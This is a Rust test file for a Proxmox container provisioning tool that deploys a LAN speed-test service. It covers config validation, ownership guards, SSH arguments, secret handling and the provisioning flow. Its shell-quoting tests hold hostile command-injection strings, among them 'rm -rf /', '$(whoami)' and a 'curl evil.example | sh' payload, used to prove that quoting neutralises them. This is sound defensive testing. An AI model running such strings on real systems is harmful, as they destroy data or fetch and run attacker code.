use lan_speedtest::provision::config::{
    default_authorized_key, default_features, default_measurement_profile, default_ssh_user,
    Config, Guest, Proxmox as NodeConfig, OWNER_TAG,
};
use lan_speedtest::provision::proxmox::{
    create_verdict, exec_argv, lease_address, parse_ipv4_from_ip_json, Json, needs_create, needs_start, exec_checked_verdict, find_lxc, mkdir_command, ownership,
    preflight_verdict, push_dir, start_argv, Lxc, Proxmox,
};
use lan_speedtest::provision::flow::{provision_step, Action, Event, Mode, Stage};
use lan_speedtest::provision::runner::{
    argv, remote_command, shell_quote, FakeRunner, Output, SshRunner,
};
use lan_speedtest::provision::setup::{
    certificate_install_command, cron_verdict, deploy_env, env_file_command, healthy, sh, unhealthy_message, SecretSources, Secrets,
};

fn guest() -> Guest {
    Guest {
        vmid: 11050,
        hostname: "speed".into(),
        ostemplate: "local:vztmpl/debian-13-standard_13.0-1_amd64.tar.zst".into(),
        cores: 4,
        memory_mb: 4096,
        swap_mb: 512,
        rootfs: "local-lvm:16".into(),
        bridge: "vmbr0".into(),
        vlan_tag: None,
        mac: None,
        unprivileged: true,
        features: default_features(),
        onboot: true,
        extra_tags: vec![],
        measurement_profile: default_measurement_profile(),
        site_name: None,
        reverse_dns: false,
        dns_resolver: None,
        ssh_authorized_key: default_authorized_key(),
    }
}

fn cfg_with(guest: Guest) -> Config {
    Config {
        proxmox: NodeConfig {
            ssh_host: "10.0.0.1".into(),
            ssh_user: "root".into(),
            ssh_identity: None,
            node: "pve".into(),
        },
        guest,
    }
}

#[test]
fn derived_mac_is_stable_and_locally_administered() {
    let a = Guest::default_mac(11050);
    let b = Guest::default_mac(11050);
    assert_eq!(a, b, "the same vmid must always yield the same MAC");
    assert_ne!(a, Guest::default_mac(11051));

    let first = u8::from_str_radix(a.split(':').next().unwrap(), 16).unwrap();
    assert_eq!(first & 0b10, 0b10, "not locally administered: {a}");
    assert_eq!(first & 0b1, 0, "not unicast: {a}");
}

#[test]
fn net0_pins_the_mac_and_requests_dhcp() {
    let g = guest();
    let net0 = g.net0();
    assert!(net0.contains("ip=dhcp"), "{net0}");
    assert!(net0.contains(&format!("hwaddr={}", g.effective_mac())), "{net0}");
    assert!(net0.contains("bridge=vmbr0"), "{net0}");
    assert!(!net0.contains("tag="), "no VLAN configured, so no tag: {net0}");
}

#[test]
fn net0_carries_the_vlan_tag_when_one_is_configured() {
    let mut g = guest();
    g.vlan_tag = Some(11);
    assert!(g.net0().contains(",tag=11"), "{}", g.net0());
}

#[test]
fn tags_always_include_the_ownership_marker_first() {
    let mut g = guest();
    assert_eq!(g.tags(), OWNER_TAG);
    g.extra_tags = vec!["lan".into(), "speedtest".into()];
    assert_eq!(g.tags(), format!("{OWNER_TAG};lan;speedtest"));
}

#[test]
fn an_explicit_mac_overrides_the_derived_one() {
    let mut g = guest();
    g.mac = Some("AA:BB:CC:DD:EE:FF".into());
    assert_eq!(g.effective_mac(), "AA:BB:CC:DD:EE:FF");
}

#[test]
fn validation_rejects_a_site_name_a_compose_env_file_cannot_carry() {
    for bad in ["Rack\nSPEEDTEST_TURN_ENABLED=false", "Rack #1", "   "] {
        let mut g = guest();
        g.site_name = Some(bad.into());
        assert!(cfg_with(g).validate().is_err(), "site_name {bad:?} should be rejected");
    }

    let mut g = guest();
    g.site_name = Some("Rack Room Speed Test".into());
    assert!(cfg_with(g).validate().is_ok());
}

#[test]
fn validation_rejects_a_malformed_mac() {
    let mut g = guest();
    g.mac = Some("zz:bb:cc:dd:ee:ff".into());
    assert!(cfg_with(g).validate().is_err());
}

#[test]
fn validation_rejects_docker_without_nesting() {
    let mut g = guest();
    g.features = "keyctl=1".into();
    assert!(cfg_with(g).validate().is_err());
}

#[test]
fn validation_rejects_an_ostemplate_that_is_not_a_template_reference() {
    let mut g = guest();
    g.ostemplate = "debian-13.tar.zst".into();
    assert!(cfg_with(g).validate().is_err());
}

#[test]
fn validation_accepts_the_shipped_shape() {
    assert!(cfg_with(guest()).validate().is_ok());
}

#[test]
fn validation_messages_name_the_problem() {
    let mut g = guest();
    g.vmid = 99;
    assert_eq!(
        cfg_with(g).validate().unwrap_err(),
        "vmid 99 is below Proxmox's minimum of 100"
    );
    let mut g = guest();
    g.mac = Some("aa:bb".into());
    assert_eq!(
        cfg_with(g).validate().unwrap_err(),
        "mac \"aa:bb\" is not six colon-separated hex octets"
    );
    let mut g = guest();
    g.site_name = Some("Rack #1".into());
    assert_eq!(
        cfg_with(g).validate().unwrap_err(),
        "site_name \"Rack #1\" contains '#', which a compose env_file cannot carry"
    );
    let mut g = guest();
    g.site_name = Some("a\nb".into());
    assert_eq!(
        cfg_with(g).validate().unwrap_err(),
        "site_name \"a\\nb\" contains '\\n', which a compose env_file cannot carry"
    );
    let mut g = guest();
    g.unprivileged = false;
    g.features = "keyctl=1".into();
    assert!(cfg_with(g).validate().is_ok());
}

fn lxc(tags: Option<&str>) -> Lxc {
    Lxc {
        vmid: 11050,
        name: Some("speed".into()),
        status: Some("running".into()),
        tags: tags.map(str::to_string),
    }
}

#[test]
fn ownership_is_decided_by_an_exact_tag_match() {
    assert!(!lxc(None).is_ours());
    assert!(!lxc(Some("")).is_ours());
    assert!(!lxc(Some("production;database")).is_ours());
    assert!(lxc(Some(OWNER_TAG)).is_ours());
    assert!(lxc(Some(&format!("lan;{OWNER_TAG};speedtest"))).is_ours());
}

#[test]
fn a_tag_that_merely_contains_the_marker_does_not_count() {
    assert!(!lxc(Some("not-speedtest-provisioned")).is_ours());
    assert!(!lxc(Some("speedtest-provisioned-old")).is_ours());
}

#[test]
fn tags_are_trimmed_and_blanks_dropped() {
    assert_eq!(lxc(Some(" a ;; b ;")).tag_list(), vec!["a", "b"]);
    assert!(lxc(Some(&format!(" {OWNER_TAG} "))).is_ours());
    assert!(lxc(None).tag_list().is_empty());
    assert!(lxc(None).is_running());
    let mut stopped = lxc(None);
    stopped.status = Some("stopped".into());
    assert!(!stopped.is_running());
}

#[test]
fn an_untagged_guest_on_our_vmid_is_refused_by_name() {
    let theirs = Lxc {
        vmid: 11050,
        name: Some("someone-elses-db".into()),
        status: Some("running".into()),
        tags: Some("production".into()),
    };
    let err = ownership(11050, "pve", Some(theirs)).unwrap_err();
    assert!(err.starts_with("REFUSING TO CONTINUE: container 11050 on node pve"), "{err}");
    assert!(err.contains("(name \"someone-elses-db\", tags \"production\")"), "{err}");
    assert!(ownership(11050, "pve", None).unwrap().is_none());
    assert!(ownership(11050, "pve", Some(lxc(Some(OWNER_TAG)))).unwrap().is_some());
    let unnamed = Lxc { vmid: 1, name: None, status: None, tags: None };
    let err = ownership(1, "pve", Some(unnamed)).unwrap_err();
    assert!(err.contains("(name \"<unnamed>\", tags \"<none>\")"), "{err}");
}

#[test]
fn the_listing_is_searched_for_our_vmid() {
    let listing = vec![
        Lxc { vmid: 100, ..Default::default() },
        Lxc { vmid: 11050, name: Some("speed".into()), ..Default::default() },
    ];
    assert_eq!(find_lxc(&listing, 11050).unwrap().name.as_deref(), Some("speed"));
    assert!(find_lxc(&listing, 7).is_none());
}

#[test]
fn create_pins_the_mac_requests_dhcp_and_tags_the_guest() {
    let pve = Proxmox::new("pve");
    let line = pve.create_argv(&guest(), Some("/tmp/key.pub")).join(" ");

    assert!(line.contains("pct create 11050"), "{line}");
    assert!(line.contains("ip=dhcp"), "{line}");
    assert!(line.contains("hwaddr=02:5E:00:00:2B:2A"), "{line}");
    assert!(line.contains(&format!("--tags {OWNER_TAG}")), "{line}");
    assert!(line.contains("--features nesting=1,keyctl=1"), "{line}");
    assert!(line.contains("--unprivileged 1"), "{line}");
    assert!(line.contains("--ssh-public-keys /tmp/key.pub"), "{line}");
}

#[test]
fn commands_for_the_node_are_built_as_argv() {
    let pve = Proxmox::new("pve");
    assert_eq!(pve.list_argv().join(" "), "pvesh get /nodes/pve/lxc --output-format json");
    assert_eq!(start_argv(11050).join(" "), "pct start 11050");
    assert_eq!(exec_argv(7, "true").join(" "), "pct exec 7 -- bash -lc true");
    assert_eq!(push_dir("/opt/speedtest/.env").as_deref(), Some("/opt/speedtest"));
    assert_eq!(push_dir("/file"), None);
    assert_eq!(push_dir("file"), None);
    assert_eq!(mkdir_command("/opt/x"), "mkdir -p /opt/x");
    assert_eq!(argv(&["a", "b"]), vec!["a".to_string(), "b".to_string()]);
}

#[test]
fn failed_commands_are_explained() {
    let err = preflight_verdict(&Output::fail(127, "bash: pveversion: command not found\n"))
        .unwrap_err();
    assert!(err.contains("is this a Proxmox host"), "{err}");
    assert!(err.ends_with("(bash: pveversion: command not found)"), "{err}");
    assert_eq!(preflight_verdict(&Output::ok(" pve-manager/8.2.4 \n")).unwrap(), "pve-manager/8.2.4");
    assert!(create_verdict(1, &Output::ok("")).is_ok());
    let mut out = Output::fail(2, " nope ");
    out.stdout = " half ".into();
    assert_eq!(
        exec_checked_verdict(5, "ls", &out).unwrap_err(),
        "in container 5, `ls` exited 2: halfnope"
    );
    assert_eq!(exec_checked_verdict(5, "ls", &Output::ok("x\n")).unwrap(), "x\n");
}

#[test]
fn plain_arguments_are_left_alone() {
    assert_eq!(shell_quote("pct"), "pct");
    assert_eq!(shell_quote("11050"), "11050");
    assert_eq!(shell_quote("local-lvm:16"), "local-lvm:16");
    assert_eq!(shell_quote("name=eth0,bridge=vmbr0"), "name=eth0,bridge=vmbr0");
}

#[test]
fn arguments_with_shell_metacharacters_are_quoted() {
    assert_eq!(shell_quote("a b"), "'a b'");
    assert_eq!(shell_quote("a;rm -rf /"), "'a;rm -rf /'");
    assert_eq!(shell_quote("$(whoami)"), "'$(whoami)'");
    assert_eq!(shell_quote(""), "''");
}

#[test]
fn a_quote_inside_a_value_is_closed_escaped_and_reopened() {
    assert_eq!(shell_quote("it's"), r"'it'\''s'");
    assert_eq!(sh("simple"), "'simple'");
    assert_eq!(sh("'"), r"''\'''");
    assert_eq!(
        remote_command(&argv(&["bash", "-lc", "echo hi"])),
        "bash -lc 'echo hi'"
    );
}

#[test]
fn ssh_is_run_unattended_against_the_node() {
    let ssh = SshRunner::new("root", "10.0.0.1", Some("/key"));
    assert_eq!(ssh.target(), "root@10.0.0.1");
    assert_eq!(
        ssh.ssh_args(&argv(&["pct", "list"])).join(" "),
        "-o BatchMode=yes -o ConnectTimeout=15 -o StrictHostKeyChecking=accept-new -i /key root@10.0.0.1 -- pct list"
    );
    assert_eq!(
        ssh.scp_args("/tmp/a", "/tmp/b").join(" "),
        "-o BatchMode=yes -o ConnectTimeout=15 -o StrictHostKeyChecking=accept-new -i /key /tmp/a root@10.0.0.1:/tmp/b"
    );
    assert_eq!(default_ssh_user(), "root");
}

#[test]
fn the_fake_records_calls_and_replays_replies() {
    let mut fake = FakeRunner::new(vec![Output::ok("first"), Output::fail(2, "nope")]);
    assert_eq!(fake.run(&argv(&["a", "b"])).stdout, "first");
    let second = fake.run(&argv(&["c"]));
    assert_eq!(second.status, 2);
    assert!(fake.run(&argv(&["d"])).succeeded());

    assert_eq!(fake.command_lines(), vec!["a b", "c", "d"]);
    assert!(fake.ran_anything_matching("a b"));
    assert!(!fake.ran_anything_matching("zzz"));
    fake.upload("/local", "/remote");
    assert_eq!(fake.uploads(), &vec![("/local".to_string(), "/remote".to_string())]);
    assert_eq!(fake.calls().len(), 3);
}

fn sources() -> SecretSources {
    SecretSources {
        acme_domain: Some(" example.net ".into()),
        cf_token: Some("tok".into()),
        acme_email: Some("ops@example.net".into()),
        speedtest_turn_user: None,
        turn_user: Some("turn".into()),
        speedtest_turn_pass: Some("changeme".into()),
        turn_pass: Some("secret".into()),
        turn_realm: None,
    }
}

#[test]
fn secrets_are_read_with_fallbacks_and_placeholders_refused() {
    let s = Secrets::from_env(&sources()).unwrap();
    assert_eq!(s.acme_domain, "example.net");
    assert_eq!(s.turn_user, "turn");
    assert_eq!(s.turn_pass, "secret");
    assert_eq!(s.turn_realm, "example.net");

    let mut missing = sources();
    missing.cf_token = Some("  ".into());
    assert_eq!(
        Secrets::from_env(&missing).unwrap_err(),
        "CF_Token is not set (copy .env.example to .env and fill it in)"
    );
    let mut no_pass = sources();
    no_pass.turn_pass = None;
    assert_eq!(
        Secrets::from_env(&no_pass).unwrap_err(),
        "TURN_PASS is not set (copy .env.example to .env and fill it in)"
    );
}

#[test]
fn the_deployed_environment_follows_the_secrets() {
    let cfg = cfg_with(guest());
    let without = deploy_env(&cfg, None, "10.0.0.50");
    assert_eq!(
        without,
        "# Written by speedtest-provision. Do not edit by hand.\n\
         SPEEDTEST_PROFILE=lan-1g\n\
         SPEEDTEST_BIND=0.0.0.0:8080\n\
         SPEEDTEST_LOG=info\n\
         SPEEDTEST_HISTORY_DB=/app/data/history.db\n\
         SPEEDTEST_TURN_ENABLED=false"
    );
    let s = Secrets::from_env(&sources()).unwrap();
    let with = deploy_env(&cfg, Some(&s), "10.0.0.50");
    assert!(with.contains("\nSPEEDTEST_TURN_URI=10.0.0.50:3478\n"), "{with}");
    assert!(with.ends_with("SPEEDTEST_TURN_USER=turn\nSPEEDTEST_TURN_PASS=secret"), "{with}");
}

#[test]
fn renewal_and_health_are_checked_rather_than_assumed() {
    assert!(cron_verdict(&Output::ok("30 0 * * 0 /root/.acme.sh/acme.sh --cron --home x\n")).is_ok());
    let err = cron_verdict(&Output::ok("\n")).unwrap_err();
    assert!(err.starts_with("certificate renewal is NOT scheduled"), "{err}");
    assert!(healthy(&Output::ok("ok\n")));
    assert!(!healthy(&Output::ok("starting")));
    assert!(!healthy(&Output::fail(7, "")));
    assert_eq!(
        unhealthy_message(3, &Output::ok(" boom \n")),
        "the application did not become healthy after 3 attempts. Container logs:\nboom"
    );
}

#[test]
fn a_second_run_creates_and_starts_nothing() {
    let running = Some(lxc(Some(OWNER_TAG)));
    assert!(!needs_create(&running));
    assert!(!needs_start(&running));
    let mut stopped = lxc(Some(OWNER_TAG));
    stopped.status = Some("stopped".into());
    assert!(needs_start(&Some(stopped)));
    assert!(needs_create(&None));
    assert!(needs_start(&None));
}

/// Reads one shell word the way a POSIX shell does for the forms the
/// quoting produces: single-quoted runs taken literally, `\x` as `x`, and
/// plain characters. `None` for anything a shell would treat specially.
fn roundtrip_through_shell(quoted: &str) -> Option<String> {
    let mut out = String::new();
    let mut chars = quoted.chars();
    while let Some(c) = chars.next() {
        match c {
            '\'' => loop {
                match chars.next()? {
                    '\'' => break,
                    inner => out.push(inner),
                }
            },
            '\\' => out.push(chars.next()?),
            c if c.is_ascii_alphanumeric() || "-_./:=,@+".contains(c) => out.push(c),
            _ => return None,
        }
    }
    Some(out)
}

#[test]
fn hostile_values_reach_the_hypervisor_unchanged() {
    for hostile in [
        "it's",
        "'; rm -rf / #",
        "$(whoami)",
        "`id`",
        "semi;colon && chain || other",
        "back\\slash",
        "a\tb",
        "'",
        "",
    ] {
        assert_eq!(
            roundtrip_through_shell(&shell_quote(hostile)).as_deref(),
            Some(hostile),
            "value was altered or interpreted by the shell: {hostile:?}"
        );
    }
}

#[test]
fn secrets_reach_the_guest_exactly_as_written() {
    for secret in [
        "simple",
        "with space",
        "'; curl evil.example | sh; #",
        "p@ss'w0rd",
        "$(id)",
        "base64+/=padding==",
        "a\tb",
    ] {
        assert_eq!(
            roundtrip_through_shell(&sh(secret)).as_deref(),
            Some(secret),
            "secret was altered or interpreted: {secret:?}"
        );
    }
}

#[test]
fn the_certificate_is_issued_for_the_domain_and_installed_with_a_reload_hook() {
    let mut s = Secrets::from_env(&sources()).unwrap();
    s.acme_email = "ops@example.net".into();
    let dest = "/etc/speedtest/tls";
    let expected = format!(
        r#"
set -euo pipefail
export DEBIAN_FRONTEND=noninteractive
. /root/.acme-dns.env
ACME=/root/.acme.sh/acme.sh
if [ ! -x "$ACME" ]; then
  curl -fsS https://get.acme.sh | sh -s email={email} >/dev/null
fi
"$ACME" --set-default-ca --server letsencrypt >/dev/null
# acme.sh installs its own daily cron; drop it so ours is the only schedule.
crontab -l 2>/dev/null | grep -v '.acme.sh' | crontab - || true
install -d -m 700 {dest}
if ! "$ACME" --list 2>/dev/null | grep -q '\*\.{domain}'; then
  "$ACME" --issue --dns dns_cf -d '*.{domain}' -d '{domain}' --keylength ec-256
fi
"$ACME" --install-cert -d '*.{domain}' --ecc \
  --fullchain-file {dest}/fullchain.pem \
  --key-file {dest}/privkey.pem \
  --reloadcmd 'cd /opt/speedtest && docker compose restart app'
chmod 600 {dest}/*.pem
"#,
        email = "'ops@example.net'",
        domain = "example.net",
        dest = dest,
    );
    assert_eq!(certificate_install_command(&s, dest), expected);
}

#[test]
fn the_deployed_environment_is_written_as_a_quoted_here_document() {
    assert_eq!(
        env_file_command("A=1\nB=$(x)"),
        "install -d -m 750 /opt/speedtest && umask 077 && cat > /opt/speedtest/.env <<'SPEEDTEST_ENV_EOF'\nA=1\nB=$(x)\nSPEEDTEST_ENV_EOF"
    );
}

#[test]
fn guest_address_is_parsed_from_ip_json() {
    let json = r#"[{"ifname":"eth0","addr_info":[
        {"family":"inet","local":"10.0.0.50","prefixlen":24,"scope":"global"}]}]"#;
    assert_eq!(parse_ipv4_from_ip_json(json).as_deref(), Some("10.0.0.50"));
}

#[test]
fn link_local_and_loopback_are_not_mistaken_for_a_lease() {
    let json = r#"[{"ifname":"lo","addr_info":[
        {"family":"inet","local":"127.0.0.1","prefixlen":8,"scope":"host"}]}]"#;
    assert_eq!(parse_ipv4_from_ip_json(json), None);
    assert_eq!(parse_ipv4_from_ip_json("[]"), None);
}

#[test]
fn the_first_global_address_wins_and_an_unstated_scope_counts_as_global() {
    let doc = Json::Array(vec![
        Json::Object(vec![(
            "addr_info".to_string(),
            Json::Array(vec![Json::Object(vec![
                ("local".to_string(), Json::Str("169.254.1.1".to_string())),
                ("scope".to_string(), Json::Str("link".to_string())),
            ])]),
        )]),
        Json::Object(vec![(
            "addr_info".to_string(),
            Json::Array(vec![
                Json::Object(vec![("local".to_string(), Json::Str("127.0.0.1".to_string()))]),
                Json::Object(vec![("local".to_string(), Json::Str("192.168.1.9".to_string()))]),
                Json::Object(vec![("local".to_string(), Json::Str("192.168.1.10".to_string()))]),
            ]),
        )]),
    ]);
    assert_eq!(lease_address(&doc).as_deref(), Some("192.168.1.9"));
    assert_eq!(lease_address(&Json::Object(vec![])), None);
    let not_text = Json::Array(vec![Json::Object(vec![(
        "addr_info".to_string(),
        Json::Array(vec![Json::Object(vec![("local".to_string(), Json::Number("10".to_string()))])]),
    )])]);
    assert_eq!(lease_address(&not_text), None);
}

#[test]
fn the_fake_answers_its_replies_in_order_then_an_empty_success() {
    let mut fake = FakeRunner::new(vec![Output::ok("first"), Output::fail(2, "nope")]);
    assert_eq!(fake.run(&argv(&["a"])).stdout, "first");
    fake.upload("/tmp/x", "/tmp/y");
    assert_eq!(fake.run(&argv(&["b"])).status, 2);
    let third = fake.run(&argv(&["c"]));
    assert_eq!((third.status, third.stdout.as_str(), third.stderr.as_str()), (0, "", ""));
    assert_eq!(fake.calls().len(), 3);
}

#[test]
fn a_finished_command_keeps_its_exit_code_and_a_signal_reads_as_minus_one() {
    let o = Output::finished(Some(3), "out".into(), "err".into());
    assert_eq!((o.status, o.stdout.as_str(), o.stderr.as_str()), (3, "out", "err"));
    assert_eq!(Output::finished(None, String::new(), String::new()).status, -1);
}

/// Drives a run through `provision_step`, answering each piece of work in
/// turn, and returns every action, written out.
fn drive(mode: Mode, answers: Vec<Event>) -> Vec<String> {
    let cfg = cfg_with(guest());
    let mut stage = Stage::Begin;
    let mut answer = Event::Done;
    let mut answers = answers.into_iter();
    let mut seen = Vec::new();
    loop {
        let (next, action) = provision_step(mode, stage, answer, &cfg);
        stage = next;
        let done = !matches!(action, Action::Do(_));
        seen.push(format!("{action:?}"));
        if done {
            return seen;
        }
        answer = answers.next().unwrap_or(Event::Done);
    }
}

fn stopped_ours() -> Lxc {
    let mut l = lxc(Some(OWNER_TAG));
    l.status = Some("stopped".into());
    l
}

#[test]
fn a_guest_we_did_not_create_is_never_touched() {
    let mut theirs = lxc(Some("production;database"));
    theirs.name = Some("prod-db".into());
    let seen = drive(
        Mode::Apply { with_secrets: true },
        vec![Event::Done, Event::Listed(Some(theirs))],
    );
    assert_eq!(seen[..2], ["Do(Preflight)", "Do(ListGuest)"]);
    assert_eq!(seen.len(), 3);
    assert!(seen[2].starts_with("Fail(\"REFUSING TO CONTINUE"), "{seen:?}");
    assert!(seen[2].contains("prod-db") && seen[2].contains("nothing has been changed"));
}

#[test]
fn a_first_apply_runs_every_step_in_order() {
    let seen = drive(
        Mode::Apply { with_secrets: true },
        vec![
            Event::Done,
            Event::Listed(None),
            Event::Done,
            Event::Listed(Some(stopped_ours())),
            Event::Done,
            Event::Done,
            Event::Done,
            Event::Done,
            Event::Address(Some("10.0.0.50".into())),
        ],
    );
    assert_eq!(
        seen,
        [
            "Do(Preflight)",
            "Do(ListGuest)",
            "Do(Create)",
            "Do(Refresh)",
            "Do(Start)",
            "Do(WaitResponsive)",
            "Do(InstallBase)",
            "Do(InstallDocker)",
            "Do(FindAddress)",
            "Do(InstallCoturn(\"10.0.0.50\"))",
            "Do(SetupTls)",
            "Do(VerifyRenewal)",
            "Do(DeployApp(\"10.0.0.50\"))",
            "Do(WaitHealthy(30))",
            "Do(ReportAddress)",
            "Finish",
        ]
    );
}

#[test]
fn a_second_run_creates_nothing() {
    let running = lxc(Some(OWNER_TAG));
    let seen = drive(
        Mode::Apply { with_secrets: false },
        vec![
            Event::Done,
            Event::Listed(Some(running.clone())),
            Event::Listed(Some(running)),
            Event::Done,
            Event::Done,
            Event::Address(Some("10.0.0.50".into())),
        ],
    );
    assert_eq!(
        seen,
        [
            "Do(Preflight)",
            "Do(ListGuest)",
            "Do(Refresh)",
            "Do(InstallBase)",
            "Do(InstallDocker)",
            "Do(FindAddress)",
            "Do(DeployApp(\"10.0.0.50\"))",
            "Do(WaitHealthy(30))",
            "Do(ReportAddress)",
            "Finish",
        ]
    );
}

#[test]
fn verify_refuses_a_guest_that_does_not_exist_and_checks_one_that_does() {
    let seen = drive(Mode::Verify, vec![Event::Done, Event::Listed(None)]);
    assert_eq!(
        seen[2],
        "Fail(\"container 11050 does not exist — nothing to verify\")"
    );
    let seen = drive(Mode::Verify, vec![Event::Done, Event::Listed(Some(lxc(Some(OWNER_TAG))))]);
    assert_eq!(
        seen[2..],
        ["Do(VerifyRenewal)", "Do(WaitHealthy(3))", "Do(ReportAddress)", "Finish"]
    );
}

#[test]
fn plan_stops_after_the_guard_and_a_failure_ends_any_run() {
    assert_eq!(
        drive(Mode::Plan, vec![Event::Done, Event::Listed(None)]),
        ["Do(Preflight)", "Do(ListGuest)", "Finish"]
    );
    let seen = drive(
        Mode::Apply { with_secrets: true },
        vec![Event::Failed("pveversion: command not found".into())],
    );
    assert_eq!(seen, ["Do(Preflight)", "Fail(\"pveversion: command not found\")"]);
}

#[test]
fn a_guest_without_an_address_stops_the_run_and_names_its_mac() {
    let seen = drive(
        Mode::Apply { with_secrets: true },
        vec![
            Event::Done,
            Event::Listed(Some(lxc(Some(OWNER_TAG)))),
            Event::Listed(Some(lxc(Some(OWNER_TAG)))),
            Event::Done,
            Event::Done,
            Event::Address(None),
        ],
    );
    let last = seen.last().unwrap();
    assert!(last.starts_with("Fail(\"the guest has no IPv4 address on eth0"), "{last}");
    assert!(last.contains(&Guest::default_mac(11050)), "{last}");
}

#[test]
fn text_that_is_not_json_offers_no_address() {
    assert_eq!(parse_ipv4_from_ip_json("not json"), None);
    assert_eq!(parse_ipv4_from_ip_json("{\"addr_info\": []}"), None);
}

#[test]
fn an_untagged_guest_is_refused_even_when_the_name_matches() {
    let mut untagged = lxc(Some(""));
    untagged.status = Some("stopped".into());
    let seen = drive(Mode::Apply { with_secrets: false }, vec![Event::Done, Event::Listed(Some(untagged))]);
    assert!(seen[2].starts_with("Fail(\"REFUSING TO CONTINUE"), "{seen:?}");
    let lookalike = lxc(Some("not-speedtest-provisioned"));
    let seen = drive(Mode::Plan, vec![Event::Done, Event::Listed(Some(lookalike))]);
    assert!(seen[2].starts_with("Fail(\"REFUSING TO CONTINUE"), "{seen:?}");
}
